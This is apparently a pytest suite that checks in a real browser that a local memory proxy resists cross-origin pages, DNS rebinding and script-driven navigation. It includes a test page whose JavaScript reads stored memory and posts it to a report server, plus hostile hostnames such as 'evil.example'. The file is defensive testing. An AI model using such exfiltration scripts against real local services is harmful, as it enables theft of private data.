"""A page of another place in a real browser: it reads nothing, plants nothing and erases nothing."""

import asyncio
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from tests.isolation.browser import (
    Browser,
    Findings,
    PageServer,
    needs_browser,
    page_server,
    report_of,
    running_browser,
)
from tests.support.answers import Answer
from tests.support.folders import Folders
from tests.support.proxy import Proxy, base_config, merged, running_proxy
from tests.support.upstream import ScriptedUpstream, scripted_upstream
from tests.support.waiting import eventually

pytestmark = [needs_browser, pytest.mark.asyncio(loop_scope="module")]

SECRET = "tangerine-4711"


@dataclass(frozen=True)
class Home:
    """A person's own proxy, reached without a key, with one memory in it."""

    proxy: Proxy
    upstream: ScriptedUpstream
    memory_id: str
    friend: PageServer
    """Serves the page whose origin the proxy was told to trust."""

    async def refused(self) -> int:
        """How many requests the proxy has refused so far (403)."""
        lines = (await self.proxy.call("GET", "/metrics", None)).text.splitlines()
        counts = [line for line in lines if line.startswith("memproxy_requests_total") and 'status="403"' in line]
        return sum(int(float(line.rpartition(" ")[2])) for line in counts)

    async def holds(self) -> list[Any]:
        """Everything that the person can see."""
        async with self.proxy.client(None) as client:
            lists = [await client.get(path) for path in ("/v1/memory", "/v1/memory/settings", "/v1/memory/export")]
            assert [one.status_code for one in lists] == [200, 200, 200]
            return [one.text for one in lists]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser(folders: Folders) -> AsyncIterator[Browser]:
    with folders.new("profile") as profile:
        async with running_browser(profile) as running:
            yield running


@pytest.fixture
def stranger() -> Iterator[PageServer]:
    with page_server() as server:
        yield server


async def settled(proxy: Proxy) -> str:
    """The id of the one memory, stored now."""
    async with proxy.client(None) as client:
        answer = await client.post("/v1/memory", json={"content": f"My vault code is {SECRET}"})
        assert answer.status_code == 201, answer.text
        return str(answer.json()["id"])


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def home(folders: Folders) -> AsyncIterator[Home]:
    with page_server() as friend, folders.new("home") as folder:
        changes = {"server": {"cors_origins": [friend.origin]}}
        async with scripted_upstream() as upstream, running_proxy(upstream.base_url, folder, changes) as proxy:
            yield Home(proxy, upstream, await settled(proxy), friend)


async def told(server: PageServer, address: str, browser: Browser) -> Findings:
    """What the page at this address found."""
    async with browser.opened(address):
        return await asyncio.to_thread(report_of, server)


def assert_nothing_was_read(found: Findings) -> None:
    assert len(found) > 100, found
    for one in found:
        assert SECRET not in one["text"], one
        assert one["outcome"] in {"refused", "opaque", "error", "load", "submitted", "silence"}, one


def assert_what_is_there_looks_like_what_is_not(found: Findings, memory_id: str) -> None:
    """Whether something loads says nothing either."""
    outcomes = {one["what"]: one["outcome"] for one in found}
    kinds = [what.removesuffix(memory_id) for what in outcomes if what.endswith(memory_id)]
    assert len(kinds) == 8, outcomes
    for kind in kinds:
        (missing,) = {outcome for what, outcome in outcomes.items() if what.startswith(kind) and memory_id not in what}
        assert outcomes[f"{kind}{memory_id}"] == missing, (kind, outcomes)


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "evil.example"])
async def test_a_page_of_another_place_does_nothing(
    home: Home, stranger: PageServer, name: str, browser: Browser
) -> None:
    before = await home.holds()
    home.upstream.reset()
    stranger.fill(home.proxy.root_url, f"http://{name}:{stranger.port}/report", here=home.memory_id)
    found = await told(stranger, f"http://{name}:{stranger.port}/page", browser)
    assert_nothing_was_read([one for one in found if not one["what"].startswith("the page")])
    assert_what_is_there_looks_like_what_is_not(found, home.memory_id)
    assert home.upstream.received == []
    assert await home.holds() == before


async def test_a_page_whose_name_comes_to_mean_this_machine_does_nothing(
    stranger: PageServer, browser: Browser, tmp_path: Path, upstream: ScriptedUpstream
) -> None:
    """DNS rebinding as the browser sees it: the page's own origin is answered by the proxy all of a sudden."""
    with page_server() as first:
        port, name = first.port, f"http://rebound.example:{first.port}"
        first.fill(name, f"http://127.0.0.1:{stranger.port}/report", here="mem_" + "a" * 32, wait=True)
        async with browser.opened(f"{name}/page"):
            assert await asyncio.to_thread(first.asked.wait, 60), "the browser did not open the page"
            first.shutdown()
            first.server_close()
            config = merged(base_config(upstream.base_url, port), {})
            proxy = Proxy(tmp_path / "home", config)
            await proxy.start()
            try:
                await settled(proxy)
                found = await asyncio.to_thread(report_of, stranger)
                kept = (await proxy.call("GET", "/v1/memory", None)).json()["data"]
            finally:
                await proxy.stop()
    assert [one["content"] for one in kept] == [f"My vault code is {SECRET}"]
    assert upstream.received == []
    assert all(SECRET not in one["text"] for one in found)
    statuses = {one["outcome"] for one in found if one["outcome"].startswith("status")}
    assert statuses == {"status 403"}, found


def scripted_page(report: str) -> Answer:
    """A page of the upstream's, which reads its origin's memory and tells ``report`` of it, if its script runs."""
    page = f"""<!doctype html><title>An upstream's page</title><script>
    fetch("/v1/memory").then((answer) => answer.text()).then((text) => fetch("{report}/report", {{method: "POST",
      mode: "no-cors", body: JSON.stringify([{{what: "a page", outcome: "its script ran", text}}])}}));
    </script><noscript><img src="{report}/shown"></noscript>"""
    return Answer([page.encode()], headers=[("content-type", "text/html")])


NAVIGATIONS = {
    "a script": "<script>location = '%s'</script>",
    "a refreshing page": "<meta http-equiv=refresh content='0;url=%s'>",
    "a form": "<form action='%s'><input name=a></form><script>document.forms[0].submit()</script>",
    "a form that posts": "<form action='%s' method=post></form><script>document.forms[0].submit()</script>",
}
LED = [*((way, "/v1/page") for way in NAVIGATIONS), ("a script", "/v1/memory/export")]


@pytest.mark.parametrize("name", ["127.0.0.1", "evil.example"])
@pytest.mark.parametrize(("way", "path"), LED)
async def test_a_page_that_leads_the_browser_to_what_is_no_page_of_ours_gets_nothing_there(
    home: Home, stranger: PageServer, browser: Browser, name: str, way: str, path: str
) -> None:
    home.upstream.reset()
    home.upstream.default = lambda _received: scripted_page(stranger.origin)
    stranger.page = (NAVIGATIONS[way] % (home.proxy.root_url + path)).encode()
    before = await home.refused()

    async def over() -> bool:
        return await home.refused() > before or bool(home.upstream.received) or not stranger.reports.empty()

    async with browser.opened(f"http://{name}:{stranger.port}/page"):
        await eventually(over, 60, what="the browser went there")
    assert await home.refused() == before + 1
    assert home.upstream.received == []


@pytest.mark.parametrize("through", ["an address that is typed", "a server that redirects"])
async def test_a_page_of_the_upstreams_runs_no_script(
    home: Home, stranger: PageServer, browser: Browser, through: str
) -> None:
    """Where browsers say that a person went there, the page is shown; its script would be of our origin."""
    home.upstream.reset()
    home.upstream.default = lambda _received: scripted_page(stranger.origin)
    address = stranger.elsewhere = f"{home.proxy.root_url}/v1/page"
    if through == "a server that redirects":
        address = f"{stranger.origin}/elsewhere"
    assert await told(stranger, address, browser) == [
        {"what": "a page", "outcome": "shown without its script", "text": ""}
    ]
    assert [one.target for one in home.upstream.received] == ["/v1/page"]


async def test_the_same_page_does_all_of_it_where_it_is_trusted(home: Home, browser: Browser) -> None:
    """What the page tries is what works, wherever the proxy lets it."""
    home.friend.fill(home.proxy.root_url, f"{home.friend.origin}/report", here=home.memory_id)
    found = await told(home.friend, f"{home.friend.origin}/page", browser)
    read = {one["what"] for one in found if SECRET in one["text"]}
    assert {"GET /v1/memory", "GET /v1/memory/export"} <= read
    outcomes = {one["what"]: one["outcome"] for one in found}
    assert outcomes["POST /v1/memory JSON"] == "status 201"
    assert outcomes["DELETE user"] == "status 200"
    assert not any(SECRET in text for text in await home.holds())
